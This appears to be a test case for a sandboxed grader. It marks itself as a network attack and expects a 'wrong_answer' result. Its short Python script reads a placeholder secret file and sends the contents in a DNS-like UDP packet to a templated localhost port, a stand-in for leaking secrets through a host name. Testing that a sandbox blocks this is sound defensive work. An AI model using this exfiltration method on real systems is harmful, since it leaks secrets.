# class: network
# attack: the secret is sent in the name of a host
# needs: sandbox
# expects double-values: wrong_answer
# expects double-gradients: wrong_answer

# %%
import socket
from contextlib import suppress


with suppress(OSError):
    text = open("@secret@", "rb").read()
with suppress(OSError, NameError):
    socket.socket(type=socket.SOCK_DGRAM).sendto(b"\x00\x01\x01\x00" + text, ("127.0.0.1", @udp@))
